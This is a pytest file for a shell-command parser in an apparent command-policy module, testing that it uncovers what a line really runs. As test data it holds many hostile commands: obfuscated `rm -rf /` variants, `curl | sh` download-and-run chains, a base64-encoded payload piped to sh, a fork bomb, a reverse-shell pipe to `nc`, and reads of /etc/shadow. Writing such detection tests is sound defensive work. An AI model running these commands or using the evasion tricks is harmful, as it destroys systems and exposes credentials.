"""Parser, normalisation and unwrapping: what `parse_command_line` says would run."""

from __future__ import annotations

import pytest

from bastion.policy.shell import parse_command_line


def programs(text: str) -> list[str]:
    return [c.program for c in parse_command_line(text).commands]


def find(text: str, program: str):
    for c in parse_command_line(text).commands:
        if c.program == program:
            return c
    raise AssertionError(f"{program} not found in {programs(text)}")


@pytest.mark.parametrize("text", [
    "r''m -rf /", '"r"m -rf /', "\\rm -rf /", "$'\\x72m' -rf /", "$'\\162m' -rf /", "/bin/rm -rf /",
    "/usr/bin/rm -rf /", "'rm' -rf /", "r\\\nm -rf /", "{rm,-rf,/}", "${IFS}rm -rf /",
])
def test_quoting_and_paths_normalise_to_rm(text: str) -> None:
    rm = find(text, "rm")
    assert rm.args == ("-rf", "/")


def test_original_program_path_is_kept() -> None:
    assert find("/usr/bin/rm -rf /tmp/x", "rm").path == "/usr/bin/rm"


@pytest.mark.parametrize("text, expected", [
    ("ls; rm x", ["ls", "rm"]),
    ("ls && rm x || id &", ["ls", "rm", "id"]),
    ("ls\nrm x", ["ls", "rm"]),
    ("cat a | grep b | wc -l", ["cat", "grep", "wc"]),
    ("(cd /tmp && rm x)", ["cd", "rm"]),
    ("{ ls; rm x; }", ["ls", "rm"]),
    ("if true; then rm x; else id; fi", ["true", "rm", "id"]),
    ("for i in a; do rm $i; done", ["rm"]),
    ("while false; do rm x; done", ["false", "rm"]),
    ("case a in a) rm x;; esac", ["rm"]),
    ("f() { rm x; }; f", ["rm", "f"]),
])
def test_every_simple_command_is_collected(text: str, expected: list[str]) -> None:
    assert programs(text) == expected


@pytest.mark.parametrize("text", [
    "echo $(rm x)", "echo `rm x`", "cat <(rm x)", "tee >(rm x)", "x=$(rm x)", "[[ -f $(rm x) ]]",
    "echo \"$(rm x)\"", "echo ${a:-$(rm x)}", "cat <<EOF\n$(rm x)\nEOF", "echo `echo \\`rm x\\``",
])
def test_substitutions_are_collected(text: str) -> None:
    assert "rm" in programs(text)


@pytest.mark.parametrize("text, chain", [
    ("sudo -u root -- env -i rm -rf /", ("sudo", "env")),
    ("doas rm x", ("doas",)),
    ("env A=1 B=2 rm x", ("env",)),
    ("nice -n 5 nohup timeout 3 stdbuf -oL ionice -c3 rm x", ("nice", "nohup", "timeout", "stdbuf", "ionice")),
    ("time rm x", ("time",)),
    ("command rm x", ("command",)),
    ("builtin eval 'rm x'", ("builtin", "eval")),
    ("exec -a y rm x", ("exec",)),
    ("watch -n 1 rm x", ("watch",)),
    ("busybox rm x", ("busybox",)),
    ("xargs -0 -n1 rm", ("xargs",)),
    ("find . -exec rm {} \\;", ("find",)),
    ("find . -execdir rm {} +", ("find",)),
    ("su -c 'rm x' bob", ("su",)),
    ("bash -c 'rm x'", ("bash",)),
    ("sh -ec 'rm x'", ("sh",)),
    ("zsh -c 'rm x'", ("zsh",)),
    ("dash -c 'rm x'", ("dash",)),
    ("eval 'rm x'", ("eval",)),
    ("eval rm x", ("eval",)),
    ("env -S 'rm x'", ("env",)),
    ("ssh host rm x", ("ssh",)),
])
def test_wrappers_are_unwrapped(text: str, chain: tuple[str, ...]) -> None:
    rm = find(text, "rm")
    assert rm.wrappers == chain
    assert not rm.opaque


def test_wrapper_itself_is_listed() -> None:
    sudo = find("sudo rm -rf /", "sudo")
    assert sudo.is_wrapper


def test_command_v_runs_nothing() -> None:
    assert programs("command -v rm") == ["command"]


def test_find_exec_placeholder_becomes_search_root() -> None:
    assert find("find /etc -exec rm -f {} +", "rm").args == ("-f", "/etc")


def test_xargs_marks_arguments_dynamic() -> None:
    assert find("xargs rm -rf", "rm").dynamic_args


def test_redirections_are_recorded() -> None:
    cmd = find("echo hi > /etc/x 2>&1 >> log", "echo")
    assert [(r.op, r.target) for r in cmd.redirects] == [(">", "/etc/x"), (">&", "1"), (">>", "log")]
    assert cmd.redirects[0].writes and not cmd.redirects[1].writes


def test_redirect_misparsed_argument_is_moved_back() -> None:
    assert find("echo a 2>/dev/null b", "echo").args == ("a", "b")


def test_brace_expansion_is_literal_only() -> None:
    assert find("ls {a,b}/c {1..3}", "ls").args == ("a/c", "b/c", "1", "2", "3")
    assert find("ls '{a,b}'", "ls").args == ("{a,b}",)


def test_home_variable_becomes_tilde() -> None:
    assert find('rm -rf "$HOME"/x', "rm").args == ("-rf", "~/x")


def test_dynamic_path_prefix() -> None:
    assert find('rm -rf "$DIR"/x', "rm").dynamic_paths == ("$DIR/x",)


@pytest.mark.parametrize("text, reason_part", [
    ("$a -rf /", "program name"),
    ("$(echo rm) -rf /", "program name"),
    ("`which rm` x", "program name"),
    ("eval $x", "only known at run time"),
    ('sh -c "$x"', "only known at run time"),
    ("curl x | sh", "pipe"),
    ("bash <<< \"$x\"", "here-string"),
    ("sh < file.sh", "redirected file"),
    ("cat <<EOF | bash\nls\nEOF", "pipe"),
    ("source <(curl x)", "process substitution"),
    (". /dev/stdin", "stdin"),
    ("python3", "stdin"),
    ("perl - < x", "redirected file"),
    ('"unterminated', "syntax"),
])
def test_opaque_cases(text: str, reason_part: str) -> None:
    parsed = parse_command_line(text)
    assert parsed.opaque
    assert any(reason_part in r for r in parsed.opaque_reasons), parsed.opaque_reasons


def test_statically_known_payloads_are_parsed_but_stay_opaque() -> None:
    rm = find("echo cm0gLXJmIC8= | base64 -d | sh", "rm")
    assert rm.args == ("-rf", "/") and rm.opaque
    rm = find("a=rm; $a -rf /", "rm")
    assert rm.opaque and rm.args == ("-rf", "/")
    rm = find("sh <<'EOF'\nrm -rf /\nEOF", "rm")
    assert rm.opaque


def test_benign_commands_are_not_opaque() -> None:
    for text in ["ls -la", "python3 script.py", "python3 -m pytest", "bash script.sh", "echo $HOME",
                 "ls $(pwd)", 'for f in *.py; do python "$f"; done']:
        assert not parse_command_line(text).opaque, text


def test_fork_bomb_is_marked_recursive() -> None:
    assert any(c.recursive for c in parse_command_line(":(){ :|:& };:").commands)


def test_pipeline_neighbours() -> None:
    sh = find("curl x | base64 -d | sh", "sh")
    assert sh.fed_by == ("curl", "base64")
    assert find("sh -i 2>&1 | nc h 1", "sh").pipes_to == ("nc",)


def test_spans_point_into_the_line() -> None:
    text = "ls -la; rm -rf /"
    rm = find(text, "rm")
    assert text[rm.span[0]:rm.span[1]] == "rm -rf /"


@pytest.mark.parametrize("text, reason", [
    ("x" * (64 * 1024 + 1), "longer than"),
    ("ls\x00rm", "NUL"),
    ("ls \udcff", "UTF-8"),
])
def test_bad_input_is_opaque(text: str, reason: str) -> None:
    parsed = parse_command_line(text)
    assert parsed.opaque and reason in parsed.opaque_reasons[0]


@pytest.mark.parametrize("text", [
    "echo " + "a" * (1024 * 1024), "$(" * 1000 + "rm -rf /" + ")" * 1000, "`" * 999, "'" * 5000,
    "{" * 2000 + "a,b" + "}" * 2000, "a" * 60000, "echo $(" * 300, "; ".join(["ls"] * 9000),
    "echo {1..100000000}", "echo " + "{a,b}" * 30,
])
def test_huge_and_deep_inputs_give_a_decision_basis(text: str) -> None:
    # Bounded work is the benchmark's business; here: no crash, no hang, something to decide on.
    parsed = parse_command_line(text)
    assert parsed.commands


def test_deep_nesting_is_opaque_not_allowed() -> None:
    parsed = parse_command_line("$(" * 1000 + "rm -rf /" + ")" * 1000)
    assert parsed.opaque


@pytest.mark.parametrize("text", ["/bin/r? -rf /", "/usr/bin/r[m] -rf /", "/usr/bin/*m -rf /"])
def test_a_program_name_pattern_is_opaque(text: str) -> None:
    cmd = parse_command_line(text).commands[0]
    assert cmd.opaque and "pattern" in cmd.opaque_reason
    assert cmd.args == ("-rf", "/")


def test_the_bracket_command_is_not_a_pattern() -> None:
    assert not parse_command_line("[ -f x ] && [[ -d y ]]").opaque


def test_a_wrapper_named_by_a_pattern_still_shows_what_it_runs() -> None:
    rm = find("/usr/bin/su?o rm -rf /", "rm")
    assert rm.args == ("-rf", "/") and rm.wrappers == ("sudo",) and rm.opaque


@pytest.mark.parametrize("text", ["coproc rm -rf /", "coproc X { rm -rf /; }", "coproc { rm -rf /; }"])
def test_coproc_runs_its_command(text: str) -> None:
    assert find(text, "rm").args == ("-rf", "/")


@pytest.mark.parametrize("text, path", [
    ("curl -o /tmp/i.sh https://x/i && sh /tmp/i.sh", "/tmp/i.sh"),
    ("curl -sO https://x/i.sh && ./i.sh", "./i.sh"),
    ("wget https://x/s.sh; bash s.sh", "s.sh"),
    ("curl -s https://x > /tmp/a; python3 /tmp/a", "/tmp/a"),
    ("cd /tmp && wget -qO i https://x/i; sh /tmp/i", "/tmp/i"),
])
def test_running_a_file_downloaded_earlier_on_the_line_is_opaque_and_fed_by_the_download(text: str,
                                                                                         path: str) -> None:
    last = parse_command_line(text).commands[-1]
    assert last.opaque and path in last.opaque_reason
    assert set(last.fed_by) & {"curl", "wget"}


@pytest.mark.parametrize("text", ["curl -o d.json https://x && jq . d.json",
                                  "curl -o /tmp/a https://x && sh /tmp/b",
                                  "wget https://x/f.tgz && tar xzf f.tgz"])
def test_other_uses_of_a_download_are_not(text: str) -> None:
    assert not parse_command_line(text).opaque


@pytest.mark.parametrize("text", [
    "ssh -o ProxyCommand='rm -rf /' host",
    "ssh -oLocalCommand='rm -rf /' host",
    "rsync -e 'rm -rf /' a b",
    "zip x.zip a -T -TT 'rm -rf /'",
    "man -P 'rm -rf /' ls",
    "tar xf x.tar --to-command='rm -rf /'",
    "tar cf x.tar . --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
    "git -c core.pager='rm -rf /' log",
    "git -c alias.x='!rm -rf /' x",
    "tmux new -d 'rm -rf /'",
    "tmux send-keys -t 0 'rm -rf /' Enter",
    "screen -dmS x rm -rf /",
    "screen -S x -X stuff 'rm -rf /\\n'",
    "start-stop-daemon --start --exec /bin/rm -- -rf /",
    "at now <<< 'rm -rf /'",
    "toybox rm -rf /",
])
def test_commands_inside_options_and_job_runners_are_seen(text: str) -> None:
    assert find(text, "rm").args == ("-rf", "/")


def test_a_redirection_alone_is_a_command_with_that_redirection() -> None:
    (cmd,) = parse_command_line("> /etc/passwd").commands
    assert cmd.program == "" and cmd.redirects[0].target == "/etc/passwd" and cmd.redirects[0].writes


@pytest.mark.parametrize("text, lost", [
    ("cd ../.. && rm -rf x", True), ('cd "$d"; rm -rf x', True), ("cd -; rm -rf x", True),
    ("cd build && rm -rf x", False), ("cd ../.. && cd /tmp && rm -rf x", False),
])
def test_relative_paths_after_a_cd_to_an_unknown_place_are_run_time_paths(text: str, lost: bool) -> None:
    assert (find(text, "rm").dynamic_paths == ("x",)) is lost


def test_a_script_written_on_the_line_is_parsed_when_run() -> None:
    rm = find("echo 'rm -rf /' > /tmp/x.sh; sh /tmp/x.sh", "rm")
    assert rm.args == ("-rf", "/") and rm.wrappers == ("sh",)


def test_appending_unknown_output_forgets_the_script_text() -> None:
    assert "rm" not in programs("echo 'rm -rf /' > x.sh; ls >> x.sh; sh x.sh")


def test_a_redirection_after_a_heredoc_marker_is_seen() -> None:
    cat = find("cat <<E > /etc/passwd\nx\nE", "cat")
    assert [r.target for r in cat.redirects if r.writes] == ["/etc/passwd"]


def test_bash_c_positional_parameters_are_the_words_after_the_script() -> None:
    assert find("sh -c 'rm -rf \"$1\" $2/' name /etc", "rm").args == ("-rf", "/etc", "/")


@pytest.mark.parametrize("text, expected", [
    ("for f in / /etc; do rm -rf $f; done", [("-rf", "/"), ("-rf", "/etc")]),
    ("for f in $(ls); do rm -rf $f; done", None),
])
def test_a_for_body_is_seen_once_per_literal_value(text: str, expected: list | None) -> None:
    rms = [c for c in parse_command_line(text).commands if c.program == "rm"]
    if expected is None:
        assert len(rms) == 1 and rms[0].dynamic_args
    else:
        assert [c.args for c in rms] == expected


def test_env_chdir_moves_the_inner_command_only() -> None:
    cmds = [c for c in parse_command_line("env -C /etc rm -rf x; rm -rf y").commands if c.program == "rm"]
    assert [c.cwd for c in cmds] == ["/etc", None]


@pytest.mark.parametrize("text", ["docker exec -it -u root c rm -rf /", "kubectl exec -it pod -c app -- rm -rf /",
                                  "podman exec c rm -rf /", "lxc exec web -- rm -rf /"])
def test_a_command_run_in_a_container_is_seen(text: str) -> None:
    assert find(text, "rm").args == ("-rf", "/")


@pytest.mark.parametrize("text, program, args", [
    ("python3 -c 'import os; os.system(\"rm -rf /\")'", "rm", ("-rf", "/")),
    ("python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/x\"])'", "rm", ("-rf", "/x")),
    ("python3 -c 'import shutil; shutil.rmtree(\"/srv\")'", "rm", ("-rf", "--", "/srv")),
    ("perl -MFile::Path -e 'rmtree \"/\"'", "rm", ("-rf", "--", "/")),
    ("perl -e 'system \"rm\", \"-rf\", \"/\"'", "rm", ("-rf", "/")),
    ("ruby -e '%x(rm -rf /)'", "rm", ("-rf", "/")),
    ("awk 'BEGIN{system(\"rm -rf /\")}'", "rm", ("-rf", "/")),
    ("python3 -c 'print(open(\"/etc/shadow\").read())'", "cat", ("--", "/etc/shadow")),
])
def test_inline_code_is_seen_as_the_commands_it_hands_to_a_shell(text: str, program: str, args: tuple) -> None:
    assert find(text, program).args == args


@pytest.mark.parametrize("text", ["python3 -m json.tool x.json", "python3 script.py -c 'os.system(\"rm\")'",
                                  "python3 -c 'print(1)'", "node -e 'console.log(`rm -rf /`)'"])
def test_inline_code_without_shell_text_adds_nothing(text: str) -> None:
    assert "rm" not in programs(text)


def test_xargs_replacement_words_come_from_stdin() -> None:
    line = parse_command_line("xargs -I% sh -c % <<< 'rm -rf /'")
    assert any("only known at run time" in r for r in line.opaque_reasons)  # sh's script is a stdin line
    assert "{}" in find("xargs -i rm -rf {}", "rm").dynamic_paths  # `-i` takes no separate value


@pytest.mark.parametrize("text", [
    "ip netns exec foo rm -rf /", "gosu root rm -rf /", "bwrap --ro-bind / / --dev /dev rm -rf /",
    "capsh -- -c 'rm -rf /'", "perf stat -e cycles rm -rf /", "hyperfine 'rm -rf /'",
    "uv run --with x rm -rf /", "conda run -n base rm -rf /", "npx -c 'rm -rf /'", "xterm -e rm -rf /",
    "nix develop -c rm -rf /", "nix-shell --run 'rm -rf /'", "entr -s 'rm -rf /'", "direnv exec . rm -rf /",
])
def test_command_runners_are_unwrapped(text: str) -> None:
    assert find(text, "rm").args == ("-rf", "/")


@pytest.mark.parametrize("text", [
    "git rebase --exec 'rm -rf /' HEAD~1", "git bisect run rm -rf /", "git submodule foreach 'rm -rf /'",
    "git filter-branch --index-filter 'rm -rf /' HEAD", "scp -o ProxyCommand='rm -rf /' a b:",
    "split --filter='rm -rf /' x",
])
def test_command_valued_subcommands_and_options(text: str) -> None:
    assert find(text, "rm").args == ("-rf", "/")


def test_program_valued_options_run_that_program() -> None:
    assert "evil" in programs("tcpdump -w x.pcap -z evil") and "gz" in programs("sort --compress-program=gz x")


def test_sed_and_debugger_command_languages() -> None:
    assert find("sed '1e rm -rf /' x", "rm").args == ("-rf", "/")
    assert any(c.opaque for c in parse_command_line("sed 's/x/y/e' f").commands)
    assert find("sed 'w /etc/passwd' x", ":").redirects[0].target == "/etc/passwd"
    assert find("sed '$r /etc/shadow' x", "cat").args == ("/etc/shadow",)
    assert find("sed 's/foo/bar/g' x", "sed") and programs("sed 's/foo/bar/g' x") == ["sed"]
    assert find("gdb -ex 'shell rm -rf /'", "rm").args == ("-rf", "/")
    assert find("gdb -ex 'python print(1)'", "python3").args == ("-c", "print(1)")
    assert find("psql -c '\\! rm -rf /'", "rm").args == ("-rf", "/")
    assert find("find . -fprint /etc/x", ":").redirects[0].target == "/etc/x"


def test_xargs_reads_the_paths_a_find_lists() -> None:
    assert "/etc" in find("find /etc -type f | sort | xargs rm -f", "rm").args
    assert "/usr" in find("echo /usr | xargs rm -rf", "rm").args
    assert find("ls | xargs rm -f", "rm").args == ("-f",)


@pytest.mark.parametrize("text", [
    "ansible all -m shell -a 'rm -rf /'", "ansible all -a 'rm -rf /'", "pdsh -w h rm -rf /",
    "vagrant ssh -c 'rm -rf /'", "expect -c 'spawn rm -rf /'",
])
def test_remote_execution_tools_are_unwrapped(text: str) -> None:
    assert find(text, "rm").args == ("-rf", "/")
